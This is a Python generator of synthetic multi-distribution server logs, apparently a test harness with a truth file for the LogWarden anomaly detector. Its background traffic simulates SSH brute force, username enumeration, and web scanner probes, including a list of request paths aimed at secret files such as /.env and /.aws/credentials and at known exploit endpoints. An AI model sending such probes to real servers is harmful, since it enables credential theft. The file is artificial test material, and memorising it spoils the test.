#!/usr/bin/env python3
"""Blind replay generator #3 for LogWarden (issue 6), written without reading the engine.

Three days of logs per host, as the software writes them, on stacks unlike nginx+PostgreSQL and
Apache+MariaDB+Exim:
  profile "alpine": Alpine busybox syslogd (/var/log/messages with facility.level), OpenSSH key-only,
                     Caddy (JSON access log + JSON runtime log, lumberjack rotation), Redis, a Go API
                     (slog text/logfmt), nftables drops via klogd, fail2ban's own log, busybox crond
  profile "rhel":   RHEL 9 rsyslog (/var/log/secure, messages, maillog, cron; dated rotation), OpenSSH with
                     passwords, Postfix + Dovecot, HAProxy (HTTP log via local2), Nextcloud (JSON log),
                     PHP-FPM, vsftpd, smartd, certbot, clamd
  profile "journal": Debian with everything in the journal (a `journalctl -o json` dump, or `-o export`),
                     plus Traefik's JSON access log and MongoDB's JSON log as files; Gitea, OpenVPN,
                     a Python worker, nftables, cron
Days 1-2 are normal (with scanners, deploys, restarts, rotation, benign errors and near-misses); day 3
holds the same background plus the injected incidents listed in truth.json.

Usage: gen.py OUTDIR [--seed N] [--hosts N] [--scale F]
Deterministic for a given seed. Python 3 stdlib only.
"""
import argparse, gzip, json, math, os, random, hashlib
from datetime import datetime, timezone, timedelta

DAY = 86400
T0 = int(datetime(2026, 11, 20, tzinfo=timezone.utc).timestamp())  # Friday; day 3 = Sunday 22 Nov
D3 = T0 + 2 * DAY
END = T0 + 3 * DAY
HOURLY = [0.25, 0.2, 0.18, 0.16, 0.16, 0.2, 0.3, 0.5, 0.75, 0.9, 1.0, 1.0,
          0.95, 1.0, 1.0, 0.95, 0.9, 0.85, 0.8, 0.75, 0.7, 0.6, 0.45, 0.35]
MON = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]
WD = ["Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun"]


def utc(t):
    return datetime.fromtimestamp(t, timezone.utc)


def rhythm(t):
    d = utc(t)
    w = 0.8 if d.weekday() >= 5 else 1.0
    return HOURLY[d.hour] * w


def rfc3164(t):
    d = utc(t)
    return f"{MON[d.month-1]} {d.day:2d} {d:%H:%M:%S}"


def iso_ms(t):
    d = utc(t)
    return d.strftime("%Y-%m-%dT%H:%M:%S.") + f"{int((t % 1) * 1000):03d}Z"


def iso_s(t):
    return utc(t).strftime("%Y-%m-%dT%H:%M:%SZ")


def poisson(rng, lam):
    if lam <= 0:
        return 0
    if lam > 40:
        return max(0, int(round(rng.gauss(lam, math.sqrt(lam)))))
    L, k, p = math.exp(-lam), 0, 1.0
    while True:
        p *= rng.random()
        if p <= L:
            return k
        k += 1


def times(rng, a, b, per_hour, shaped=True):
    """Poisson arrivals in [a, b) at per_hour, optionally shaped by the daily rhythm."""
    out = []
    t = a
    while t < b:
        e = min(b, t + 60)
        lam = per_hour / 60.0 * (e - t) / 60.0 * (rhythm(t) if shaped else 1.0)
        for _ in range(poisson(rng, lam)):
            out.append(t + rng.random() * (e - t))
        t = e
    out.sort()
    return out


PUBLIC_PREFIXES = [45, 61, 77, 80, 89, 91, 103, 106, 109, 110, 112, 116, 117, 118, 121, 122, 123, 124, 125,
                   134, 137, 138, 139, 141, 142, 143, 146, 147, 150, 152, 157, 159, 161, 162, 164, 165, 167,
                   170, 175, 176, 178, 179, 180, 181, 182, 183, 185, 186, 187, 188, 190, 191, 193, 194, 195,
                   197, 200, 201, 202, 212, 213, 217, 218, 220, 221, 222]


def pub_ip(rng):
    return f"{rng.choice(PUBLIC_PREFIXES)}.{rng.randrange(0, 256)}.{rng.randrange(0, 256)}.{rng.randrange(1, 255)}"


SCAN_USERS = ["root"] * 12 + ["admin", "ubuntu", "test", "user", "oracle", "postgres", "git", "ftpuser", "pi",
                               "guest", "support", "ubnt", "debian", "centos", "ec2-user", "deploy", "www", "mysql",
                               "hadoop", "dev", "tomcat", "jenkins", "steam", "minecraft", "nagios", "validator",
                               "sol", "solana", "es", "elastic", "user1", "test1", "administrator", "server"]
ENUM_USERS = ["alex", "amanda", "anna", "backup", "bin", "carlos", "chris", "daemon", "daniel", "david", "demo",
              "docker", "emma", "ftp", "gpadmin", "hdfs", "info", "james", "john", "kafka", "karaf", "lp", "mail",
              "maria", "mike", "nobody", "odoo", "operator", "osmc", "paul", "plex", "redis", "sales", "sara",
              "sftp", "shop", "sinusbot", "squid", "svn", "sysadmin", "teamspeak", "temp", "test2", "tom", "vagrant",
              "web", "webmaster", "wordpress", "xbmc", "zabbix", "zimbra", "ts3", "vps", "ansible", "ubuntu2"]
UA_BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.6723.102 Mobile Safari/537.36",
]
UA_BOTS = ["Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
           "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
           "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)"]
UA_SCAN = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36",
           "python-requests/2.31.0", "Go-http-client/1.1", "curl/7.88.1", "Mozilla/5.0 zgrab/0.x",
           "Mozilla/5.0 (l9scan/2.0.; +https://leakix.net)", "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)"]
PROBE_PATHS = ["/.env", "/.git/config", "/wp-login.php", "/xmlrpc.php", "/wp-admin/setup-config.php", "/phpmyadmin/",
               "/pma/index.php", "/.aws/credentials", "/config.json", "/admin/.env", "/api/.env", "/backup.zip",
               "/.DS_Store", "/server-status", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
               "/cgi-bin/luci/;stok=/locale", "/boaform/admin/formLogin", "/actuator/env", "/.svn/entries",
               "/wp-content/plugins/wp-file-manager/readme.txt", "/owa/auth/logon.aspx", "/HNAP1/", "/solr/admin/info/system",
               "/geoserver/web/", "/_ignition/execute-solution", "/debug/default/view", "/config.php.bak", "/db.sql",
               "/.well-known/security.txt", "/sftp-config.json", "/.vscode/sftp.json", "/info.php", "/phpinfo.php",
               "/shell.php", "/wp-includes/wlwmanifest.xml", "/.git/HEAD", "/docker-compose.yml", "/admin/config.php",
               "/manager/html", "/console/", "/remote/login", "/dns-query", "/aaa9", "/ab2g", "/containers/json"]


class Host:
    def __init__(self, name, profile, seed, idx, scale, export_fmt="json"):
        self.name = name
        self.profile = profile
        self.rng = random.Random(f"{seed}/{idx}/{profile}")
        self.scale = scale
        self.files = {}       # key -> list of (t, line)
        self.journal = []     # (t, dict)
        self.truth = []
        self.pid = 1200 + self.rng.randrange(1000)
        self.export_fmt = export_fmt
        self.boot = hashlib.md5(f"{seed}{name}boot".encode()).hexdigest()
        self.machine = hashlib.md5(f"{seed}{name}machine".encode()).hexdigest()
        self.uptime0 = T0 - self.rng.randrange(5 * DAY, 40 * DAY)
        self.busy = []        # incident time slots, to keep incidents apart

    def newpid(self):
        self.pid += self.rng.randrange(1, 40)
        if self.pid > 4000000:
            self.pid = 1300
        return self.pid

    def put(self, key, t, line):
        if t < END:   # the copy of /var/log is taken at the end of day 3
            self.files.setdefault(key, []).append((t, line))

    # -- syslog, routed the way each distribution's logger does it
    def sys(self, t, ident, pid, msg, fac="daemon", pri="info", unit=None, comm=None):
        p = self.profile
        if p == "alpine":
            if ident == "kernel":
                up = t - self.uptime0
                self.put("messages", t, f"{rfc3164(t)} {self.name} kern.{pri} kernel: [{up:12.6f}] {msg}")
            else:
                tag = f"{ident}[{pid}]" if pid else ident
                self.put("messages", t, f"{rfc3164(t)} {self.name} {fac}.{pri} {tag}: {msg}")
        elif p == "rhel":
            tag = "kernel" if ident == "kernel" else (f"{ident}[{pid}]" if pid else ident)
            line = f"{rfc3164(t)} {self.name} {tag}: {msg}"
            if fac in ("auth", "authpriv"):
                self.put("secure", t, line)
            elif fac == "mail":
                self.put("maillog", t, line)
            elif fac == "cron":
                self.put("cron", t, line)
            elif fac == "local2":
                self.put("haproxy", t, line)
            else:
                self.put("messages", t, line)
        else:
            prio = {"emerg": 0, "alert": 1, "crit": 2, "err": 3, "warning": 4, "warn": 4, "notice": 5, "info": 6, "debug": 7}[pri]
            facn = {"kern": 0, "user": 1, "mail": 2, "daemon": 3, "auth": 4, "syslog": 5, "cron": 9, "authpriv": 10, "local0": 16}.get(fac, 3)
            e = {"PRIORITY": str(prio), "SYSLOG_FACILITY": str(facn), "_HOSTNAME": self.name, "_BOOT_ID": self.boot,
                 "_MACHINE_ID": self.machine, "MESSAGE": msg}
            if ident == "kernel":
                e.update({"_TRANSPORT": "kernel", "SYSLOG_IDENTIFIER": "kernel"})
            else:
                e.update({"SYSLOG_IDENTIFIER": ident, "_PID": str(pid or 1), "_COMM": comm or ident[:15],
                          "_TRANSPORT": "journal" if ident == "systemd" else ("stdout" if unit and ident not in ("sshd", "sudo", "CRON", "useradd", "groupadd", "su") else "syslog"),
                          "_UID": "0", "_GID": "0"})
                if unit:
                    e["_SYSTEMD_UNIT"] = unit
                    e["_SYSTEMD_SLICE"] = "system.slice"
                if ident == "systemd" and unit:
                    e["UNIT"] = unit
                    e["_SYSTEMD_UNIT"] = "init.scope"
                    e.pop("_SYSTEMD_SLICE", None)
            if t < END:
                self.journal.append((t, e))

    def slot(self, lo, hi, length=1800):
        """Pick an incident start in day 3 [lo, hi) hours that keeps 40 min from other incidents."""
        for _ in range(500):
            t = D3 + self.rng.uniform(lo * 3600, hi * 3600)
            t = int(t) + round(self.rng.random(), 3)
            if all(abs(t - b) > 2700 for b in self.busy):
                self.busy.append(t)
                return t
        raise RuntimeError("no free slot")

    def truth_add(self, kind, t, entities, note=""):
        if not entities:
            # no entity to name: the alert must at least say where (the log, unit or program), in its
            # entities or its title
            entities = {"where": {"text_any": WHERE[kind][self.profile]}}
        self.truth.append({"host": self.name, "kind": kind, "start": iso_ms(t), "start_unix": t,
                           "entities": entities, "note": note})


WHERE = {
    "service-silent": {"alpine": ["api/api.log"], "journal": ["ci-worker"]},
    "cron-missed": {"alpine": ["cron", "redis-snapshot-upload"], "rhel": ["cron"], "journal": ["cron", "gitea-mirror-sync"]},
    "http-5xx-burst": {"alpine": ["caddy"], "rhel": ["haproxy"], "journal": ["traefik"]},
    "disk-full": {"alpine": ["redis", "api/api.log", "/var/lib/api"], "rhel": ["postfix", "maillog", "nextcloud", "php"], "journal": ["mongo", "gitea"]},
    "tls-failure": {"alpine": ["caddy", "cdn.shop.example.org"], "rhel": ["certbot", "mail.example.org", "maillog", "postfix"], "journal": ["traefik", ".example.com"]},
    "db-errors": {"alpine": ["redis"], "rhel": ["nextcloud", "sqlstate"], "journal": ["mongo"]},
    "new-error-template": {"alpine": ["api/api.log", "panic"], "rhel": ["nextcloud", "encryption"], "journal": ["ci-worker", "worker.main"]},
    "template-spike": {"alpine": ["api/api.log", "slow upstream"], "rhel": ["php-fpm", "www-error", "seems busy"], "journal": ["gitea", "slow"]},
}


# ---------------------------------------------------------------- shared background pieces

def ssh_background(h, password_auth, port=22, per_hour=55):
    rng = h.rng
    for t in times(rng, T0, END, per_hour * h.scale, shaped=False):
        ip = pub_ip(rng)
        kind = rng.random()
        pid = h.newpid()
        p = rng.randrange(30000, 65000)
        if kind < 0.18:
            h.sys(t, "sshd", pid, f"Connection closed by {ip} port {p} [preauth]", "auth")
            continue
        if kind < 0.28:
            h.sys(t, "sshd", pid, "error: kex_exchange_identification: Connection closed by remote host", "auth", "err")
            h.sys(t, "sshd", pid, f"Connection closed by {ip} port {p}", "auth")
            continue
        if kind < 0.32:
            h.sys(t, "sshd", pid, f"Unable to negotiate with {ip} port {p}: no matching key exchange method found. Their offer: diffie-hellman-group14-sha1,diffie-hellman-group-exchange-sha1,diffie-hellman-group1-sha1 [preauth]", "auth")
            continue
        if kind < 0.34:
            h.sys(t, "sshd", pid, f"banner exchange: Connection from {ip} port {p}: invalid format", "auth")
            continue
        # a guessing session: heavy tail but capped (the internet's background, not an attack on us)
        n = min(24, max(1, int(rng.paretovariate(1.3))))
        tt = t
        for _ in range(n):
            user = rng.choice(SCAN_USERS)
            pid = h.newpid()
            p = rng.randrange(30000, 65000)
            ssh_attempt(h, tt, pid, ip, p, user, user not in ("root",) and user not in h.users, password_auth)
            tt += rng.uniform(2, 25)


def ssh_attempt(h, t, pid, ip, p, user, invalid, password_auth):
    if invalid:
        h.sys(t, "sshd", pid, f"Invalid user {user} from {ip} port {p}", "auth")
        if password_auth:
            if h.profile == "rhel":
                h.sys(t + 0.002, "sshd", pid, f"pam_unix(sshd:auth): check pass; user unknown", "authpriv", "notice")
                h.sys(t + 0.003, "sshd", pid, f"pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={ip}", "authpriv", "notice")
            h.sys(t + 1.9, "sshd", pid, f"Failed password for invalid user {user} from {ip} port {p} ssh2", "auth")
            h.sys(t + 2.3, "sshd", pid, f"Received disconnect from {ip} port {p}:11: Bye Bye [preauth]", "auth")
            h.sys(t + 2.3, "sshd", pid, f"Disconnected from invalid user {user} {ip} port {p} [preauth]", "auth")
        else:
            h.sys(t + 0.4, "sshd", pid, f"Connection closed by invalid user {user} {ip} port {p} [preauth]", "auth")
    else:
        if password_auth:
            if h.profile == "rhel":
                h.sys(t + 0.003, "sshd", pid, f"pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={ip}  user={user}", "authpriv", "notice")
            h.sys(t + 2.1, "sshd", pid, f"Failed password for {user} from {ip} port {p} ssh2", "auth")
            h.sys(t + 2.4, "sshd", pid, f"Received disconnect from {ip} port {p}:11: Bye Bye [preauth]", "auth")
            h.sys(t + 2.4, "sshd", pid, f"Disconnected from authenticating user {user} {ip} port {p} [preauth]", "auth")
        else:
            h.sys(t + 0.5, "sshd", pid, f"Connection closed by authenticating user {user} {ip} port {p} [preauth]", "auth")


def ssh_admin_logins(h, users, offices):
    rng = h.rng
    for day in range(3):
        for _ in range(rng.randrange(3, 8)):
            t = T0 + day * DAY + rng.uniform(7.5 * 3600, 19 * 3600)
            if t > END:
                continue
            user = rng.choice(users)
            ip = offices[user]
            pid = h.newpid()
            p = rng.randrange(40000, 60000)
            fp = hashlib.sha256(user.encode()).hexdigest()[:43]
            h.sys(t, "sshd", pid, f"Accepted publickey for {user} from {ip} port {p} ssh2: ED25519 SHA256:{fp}", "auth")
            uid = 1000 + users.index(user)
            if h.profile == "rhel":
                h.sys(t + 0.02, "sshd", pid, f"pam_unix(sshd:session): session opened for user {user}(uid={uid}) by {user}(uid=0)", "authpriv")
            else:
                h.sys(t + 0.02, "sshd", pid, f"pam_unix(sshd:session): session opened for user {user}(uid={uid}) by (uid=0)", "auth")
            dur = rng.uniform(120, 3600)
            # admins use sudo for maintenance: normal, to root
            for k in range(rng.randrange(0, 4)):
                ts = t + rng.uniform(30, dur - 10)
                cmd = rng.choice(["/usr/bin/systemctl status " + h.main_unit, "/usr/bin/tail -n 200 /var/log/messages",
                                  "/usr/bin/journalctl -u " + h.main_unit + " -n 100", "/usr/sbin/nft list ruleset",
                                  "/usr/bin/du -sh /var/lib", "/usr/bin/fail2ban-client status sshd"])
                h.sys(ts, "sudo", None, f"{user:>8} : TTY=pts/{k} ; PWD=/home/{user} ; USER=root ; COMMAND={cmd}", "authpriv", "notice")
                h.sys(ts + 0.01, "sudo", None, f"pam_unix(sudo:session): session opened for user root(uid=0) by {user}(uid={uid})", "authpriv")
                h.sys(ts + 1.5, "sudo", None, "pam_unix(sudo:session): session closed for user root", "authpriv")
            h.sys(t + dur, "sshd", pid, f"Received disconnect from {ip} port {p}:11: disconnected by user", "auth")
            h.sys(t + dur, "sshd", pid, f"Disconnected from user {user} {ip} port {p}", "auth")
            h.sys(t + dur + 0.01, "sshd", pid, f"pam_unix(sshd:session): session closed for user {user}", "auth")


def nft_background(h, per_hour=300, prefix="nft-drop: "):
    rng = h.rng
    ports = [23, 22, 2323, 445, 3389, 5900, 8080, 8443, 6379, 27017, 5432, 3306, 1433, 81, 8888, 37215, 52869, 5555, 9200, 11211]
    for t in times(rng, T0, END, per_hour * h.scale, shaped=False):
        ip = pub_ip(rng)
        for _ in range(1 if rng.random() < 0.8 else rng.randrange(2, 6)):
            nft_line(h, t, ip, rng.choice(ports), prefix)
            t += rng.uniform(0.1, 3)


def nft_line(h, t, ip, dport, prefix):
    rng = h.rng
    mac = "52:54:00:12:34:56:fe:ed:de:ad:be:ef:08:00"
    h.sys(t, "kernel", None, f"{prefix}IN=eth0 OUT= MAC={mac} SRC={ip} DST={h.addr} LEN={rng.choice([40, 44, 60])} TOS=0x00 PREC=0x00 TTL={rng.randrange(35, 250)} ID={rng.randrange(65535)} {'DF ' if rng.random() < 0.3 else ''}PROTO=TCP SPT={rng.randrange(1024, 65535)} DPT={dport} WINDOW={rng.choice([1024, 65535, 29200, 14600])} RES=0x00 SYN URGP=0", "kern", "warn")


def cron_job(h, every_min, offset_min, user, cmd, stop_at=None, resume_at=None):
    """A periodic cron job written the way each distribution's cron daemon logs it."""
    rng = h.rng
    t = T0 + offset_min * 60
    while t < END:
        if stop_at is None or t < stop_at or (resume_at and t >= resume_at):
            tt = t + rng.uniform(0.5, 1.5)
            pid = h.newpid()
            if h.profile == "alpine":
                h.sys(tt, "crond", 2210, f"USER {user} pid {pid} cmd {cmd}", "cron", "info")
            elif h.profile == "rhel":
                h.sys(tt, "CROND", pid, f"pam_unix(crond:session): session opened for user {user}(uid={0 if user == 'root' else 48}) by {user}(uid=0)", "authpriv")
                h.sys(tt + 0.02, "CROND", pid, f"({user}) CMD ({cmd})", "cron")
                h.sys(tt + rng.uniform(1, 20), "CROND", pid, f"pam_unix(crond:session): session closed for user {user}", "authpriv")
            else:
                h.sys(tt, "CRON", pid, f"pam_unix(cron:session): session opened for user {user}(uid={0 if user == 'root' else 1001}) by {user}(uid=0)", "authpriv", unit="cron.service")
                h.sys(tt + 0.01, "CRON", pid, f"({user}) CMD ({cmd})", "cron", unit="cron.service")
                h.sys(tt + rng.uniform(1, 20), "CRON", pid, f"pam_unix(cron:session): session closed for user {user}", "authpriv", unit="cron.service")
        t += every_min * 60


def systemd_restart(h, t, unit, desc, start_lines=()):
    h.sys(t, "systemd", 1, f"Stopping {unit} - {desc}...", unit=unit)
    h.sys(t + 1.2, "systemd", 1, f"{unit}: Deactivated successfully.", unit=unit)
    h.sys(t + 1.2, "systemd", 1, f"Stopped {unit} - {desc}.", unit=unit)
    h.sys(t + 1.3, "systemd", 1, f"{unit}: Consumed {h.rng.uniform(1, 900):.3f}s CPU time.", unit=unit)
    h.sys(t + 1.5, "systemd", 1, f"Starting {unit} - {desc}...", unit=unit)
    h.sys(t + 2.2, "systemd", 1, f"Started {unit} - {desc}.", unit=unit)


def restart_loop(h, t, unit, desc, ident, errline, status="1/FAILURE", n=8, every=5.2):
    tt = t
    for i in range(1, n + 1):
        pid = h.newpid()
        h.sys(tt, ident, pid, errline, "daemon", "err", unit=unit)
        h.sys(tt + 0.05, "systemd", 1, f"{unit}: Main process exited, code=exited, status={status}", "daemon", "notice", unit=unit)
        h.sys(tt + 0.05, "systemd", 1, f"{unit}: Failed with result 'exit-code'.", "daemon", "warning", unit=unit)
        h.sys(tt + every, "systemd", 1, f"{unit}: Scheduled restart job, restart counter is at {i}.", "daemon", "info", unit=unit)
        h.sys(tt + every, "systemd", 1, f"Stopped {unit} - {desc}.", unit=unit)
        h.sys(tt + every + 0.01, "systemd", 1, f"Started {unit} - {desc}.", unit=unit)
        tt += every + 0.8
    h.sys(tt, "systemd", 1, f"{unit}: Start request repeated too quickly.", "daemon", "warning", unit=unit)
    h.sys(tt, "systemd", 1, f"{unit}: Failed with result 'exit-code'.", "daemon", "warning", unit=unit)
    h.sys(tt, "systemd", 1, f"Failed to start {unit} - {desc}.", "daemon", "err", unit=unit)


def kernel_oom(h, t, victim, vpid, unit, rss_kb):
    s = h.sys
    s(t, "kernel", None, f"{victim} invoked oom-killer: gfp_mask=0x140cca(GFP_HIGHUSER_MOVABLE|__GFP_COMP), order=0, oom_score_adj=0", "kern", "warn")
    kver = {"alpine": "6.6.58-0-virt #1-Alpine", "rhel": "5.14.0-503.14.1.el9_5.x86_64 #1", "journal": "6.1.0-27-amd64 #1 Debian 6.1.115-1"}[h.profile]
    s(t, "kernel", None, f"CPU: 1 PID: {vpid} Comm: {victim} Not tainted {kver}", "kern", "warn")
    s(t, "kernel", None, "Hardware name: QEMU Standard PC (i440FX + PIIX, 1996), BIOS rel-1.16.3-0-ga6ed6b701f0a-prebuilt.qemu.org 04/01/2014", "kern", "warn")
    s(t, "kernel", None, "Call Trace:", "kern", "warn")
    s(t, "kernel", None, " <TASK>", "kern", "warn")
    s(t, "kernel", None, " dump_stack_lvl+0x44/0x5c", "kern", "warn")
    s(t, "kernel", None, " dump_header+0x4a/0x211", "kern", "warn")
    s(t, "kernel", None, " oom_kill_process.cold+0xb/0x10", "kern", "warn")
    s(t, "kernel", None, " out_of_memory+0x1fd/0x4c0", "kern", "warn")
    s(t, "kernel", None, " </TASK>", "kern", "warn")
    s(t, "kernel", None, "Mem-Info:", "kern", "info")
    s(t, "kernel", None, f"oom-kill:constraint=CONSTRAINT_NONE,nodemask=(null),cpuset=/,mems_allowed=0,global_oom,task_memcg=/system.slice/{unit},task={victim},pid={vpid},uid=999", "kern", "info")
    s(t + 0.01, "kernel", None, f"Out of memory: Killed process {vpid} ({victim}) total-vm:{rss_kb * 2}kB, anon-rss:{rss_kb}kB, file-rss:0kB, shmem-rss:0kB, UID:999 pgtables:{rss_kb // 500}kB oom_score_adj:0", "kern", "err")
    if h.profile != "alpine":
        s(t + 0.2, "systemd", 1, f"{unit}: A process of this unit has been killed by the OOM killer.", "daemon", "warning", unit=unit)
        s(t + 0.3, "systemd", 1, f"{unit}: Main process exited, code=killed, status=9/KILL", "daemon", "notice", unit=unit)
        s(t + 0.3, "systemd", 1, f"{unit}: Failed with result 'oom-kill'.", "daemon", "warning", unit=unit)


def kernel_io(h, t, dev, n=12):
    rng = h.rng
    for i in range(n):
        sec = rng.randrange(10 ** 6, 10 ** 9)
        tt = t + i * rng.uniform(0.2, 3)
        h.sys(tt, "kernel", None, f"I/O error, dev {dev}, sector {sec} op 0x0:(READ) flags 0x80700 phys_seg 1 prio class 2", "kern", "err")
        if i % 3 == 0:
            h.sys(tt, "kernel", None, f"Buffer I/O error on dev {dev}1, logical block {sec // 8}, async page read", "kern", "err")
    h.sys(t + n * 2, "kernel", None, f"EXT4-fs error (device {dev}1): __ext4_find_entry:1683: inode #2: comm rsync: reading directory lblock 0", "kern", "crit")


def kernel_hung(h, t, task, tpid):
    for i in range(3):
        tt = t + i * 122
        h.sys(tt, "kernel", None, f"INFO: task {task}:{tpid} blocked for more than {120 * (i + 1)} seconds.", "kern", "err")
        h.sys(tt, "kernel", None, "      Not tainted 6.1.0-27-amd64 #1 Debian 6.1.115-1", "kern", "err")
        h.sys(tt, "kernel", None, "\"echo 0 > /proc/sys/kernel/hung_task_timeout_secs\" disables this message.", "kern", "err")
        h.sys(tt, "kernel", None, f"task:{task:<15} state:D stack:0     pid:{tpid}  ppid:1      flags:0x00000000", "kern", "info")
        h.sys(tt, "kernel", None, "Call Trace:", "kern", "warn")
        h.sys(tt, "kernel", None, " __schedule+0x34d/0x9e0", "kern", "warn")
        h.sys(tt, "kernel", None, " io_schedule+0x42/0x70", "kern", "warn")


def useradd(h, t, user, uid, by="root"):
    h.sys(t, "groupadd", h.newpid(), f"group added to /etc/group: name={user}, GID={uid}", "authpriv")
    h.sys(t + 0.01, "groupadd", h.pid, f"new group: name={user}, GID={uid}", "authpriv")
    p = h.newpid()
    h.sys(t + 0.05, "useradd", p, f"new user: name={user}, UID={uid}, GID={uid}, home=/home/{user}, shell=/bin/bash, from=/dev/pts/1", "authpriv")
    h.sys(t + 4, "passwd", h.newpid(), f"pam_unix(passwd:chauthtok): password changed for {user}", "authpriv")


def sudo_root(h, t, user, cmd, pwd="/tmp", tty="unknown"):
    h.sys(t, "sudo", None, f"{user:>8} : TTY={tty} ; PWD={pwd} ; USER=root ; COMMAND={cmd}", "authpriv", "notice")
    h.sys(t + 0.01, "sudo", None, f"pam_unix(sudo:session): session opened for user root(uid=0) by (uid={h.rng.randrange(33, 1000)})", "authpriv")


def brute_force(h, t, ip, users, n, gap, password_auth, invalid_frac=0.0):
    rng = h.rng
    tt = t
    for i in range(n):
        u = rng.choice(users)
        ssh_attempt(h, tt, h.newpid(), ip, rng.randrange(30000, 65000), u, u not in h.users and u != "root", password_auth)
        tt += rng.uniform(gap * 0.5, gap * 1.5)
    return tt


def login_after_failures(h, t, ip, user, n=40):
    tt = brute_force(h, t, ip, [user], n, 3.0, True)
    pid = h.newpid()
    p = rng_port(h)
    h.sys(tt + 2, "sshd", pid, f"Accepted password for {user} from {ip} port {p} ssh2", "auth")
    h.sys(tt + 2.05, "sshd", pid, f"pam_unix(sshd:session): session opened for user {user}(uid=1001) by (uid=0)", "authpriv")


def rng_port(h):
    return h.rng.randrange(30000, 65000)


def distributed(h, t, users, dur=3000, n=130, password_auth=True):
    rng = h.rng
    pool = [pub_ip(rng) for _ in range(60)]
    for i in range(n):
        tt = t + i * dur / n + rng.uniform(0, dur / n * 0.8)
        ssh_attempt(h, tt, h.newpid(), rng.choice(pool), rng_port(h), users[i % len(users)], False, password_auth)


def enumeration(h, t, ip, n=70, password_auth=False):
    rng = h.rng
    names = rng.sample(ENUM_USERS, min(n, len(ENUM_USERS)))
    tt = t
    for i in range(n):
        ssh_attempt(h, tt, h.newpid(), ip, rng_port(h), names[i % len(names)] + ("" if i < len(names) else str(i)), True, password_auth)
        tt += rng.uniform(1, 6)


# ---------------------------------------------------------------- web: one generator of requests, three writers

class Web:
    def __init__(self, h, writer, vhost, pages, api, assets, spa_clients=4):
        self.h, self.writer, self.vhost = h, writer, vhost
        self.pages, self.api, self.assets = pages, api, assets
        rng = h.rng
        self.users = [pub_ip(rng) for _ in range(1500)]
        self.spa = [pub_ip(rng) for _ in range(spa_clients)]
        self.monitor = pub_ip(rng)

    def req(self, t, ip, method, path, status, size, ua, dur=None, user="", ref="-"):
        self.writer(self.h, t, ip, method, path, status, size, ua, dur if dur is not None else self.h.rng.uniform(0.001, 0.25), user, self.vhost, ref)

    def background(self, per_hour):
        h, rng = self.h, self.h.rng
        for t in times(rng, T0, END, per_hour * h.scale / 6):   # a visit = ~6 requests
            ip = rng.choice(self.users)
            ua = rng.choice(UA_BROWSERS)
            page = rng.choice(self.pages)
            self.req(t, ip, "GET", page, 200 if rng.random() < 0.93 else 304, rng.randrange(3000, 60000), ua)
            for a in rng.sample(self.assets, min(len(self.assets), rng.randrange(2, 5))):
                t += rng.uniform(0.02, 0.4)
                self.req(t, ip, "GET", a, 200 if rng.random() < 0.6 else 304, rng.randrange(500, 300000), ua, ref=f"https://{self.vhost}{page}")
            if rng.random() < 0.05:
                self.req(t + 0.3, ip, "GET", "/favicon.ico", 404, 0, ua)
            if rng.random() < 0.01:
                self.req(t + 0.5, ip, "GET", "/apple-touch-icon-precomposed.png", 404, 0, ua)
            for _ in range(rng.randrange(0, 3)):
                t += rng.uniform(0.5, 20)
                m = "POST" if rng.random() < 0.2 else "GET"
                st = 200 if rng.random() < 0.985 else rng.choice([400, 403, 404, 409, 422])
                if rng.random() < 0.0015:
                    st = 500   # the odd benign server error
                self.req(t, ip, m, rng.choice(self.api).replace("{id}", str(rng.randrange(1, 99999))), st, rng.randrange(50, 8000), ua)
        # a single-page app polling extensionless endpoints at a high rate (not a crawler)
        for ip in self.spa:
            ua = rng.choice(UA_BROWSERS)
            for day in range(3):
                s = T0 + day * DAY + rng.uniform(8 * 3600, 10 * 3600)
                e = s + rng.uniform(5 * 3600, 9 * 3600)
                t = s
                while t < min(e, END):
                    self.req(t, ip, "GET", "/api/v1/notifications?since=" + str(int(t)), 200, rng.randrange(40, 900), ua, dur=rng.uniform(0.002, 0.03))
                    if rng.random() < 0.3:
                        self.req(t + 0.1, ip, "GET", "/api/v1/presence", 204, 0, ua)
                    t += rng.uniform(4, 6)
        # uptime monitor
        t = T0 + rng.uniform(0, 60)
        while t < END:
            self.req(t, self.monitor, "HEAD", "/", 200, 0, "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)")
            t += 60
        # crawlers
        for t in times(rng, T0, END, 40 * h.scale, shaped=False):
            ua = rng.choice(UA_BOTS)
            ip = "66.249.66." + str(rng.randrange(1, 200)) if "Google" in ua else pub_ip(rng)
            p = rng.choice(self.pages + ["/robots.txt", "/sitemap.xml"])
            self.req(t, ip, "GET", p, 200 if rng.random() < 0.95 else 404, rng.randrange(300, 50000), ua)
        # the internet's web scanners: a few probes per address, many addresses
        for t in times(rng, T0, END, 9 * h.scale, shaped=False):
            ip = pub_ip(rng)
            ua = rng.choice(UA_SCAN)
            for p in rng.sample(PROBE_PATHS, rng.randrange(1, 7)):
                self.req(t, ip, rng.choice(["GET", "GET", "POST"]), p, 404 if rng.random() < 0.9 else 403, rng.randrange(0, 200), ua)
